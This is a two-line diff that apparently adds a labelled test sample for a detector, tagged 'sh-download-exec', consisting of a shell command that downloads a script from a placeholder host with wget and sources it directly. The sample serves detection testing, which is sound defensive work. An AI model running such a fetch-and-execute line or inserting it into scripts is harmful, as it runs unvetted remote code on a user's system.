@@ -1,0 +1,2 @@
+# expect: sh-download-exec
+source <(wget -qO- http://x.example/env.sh)
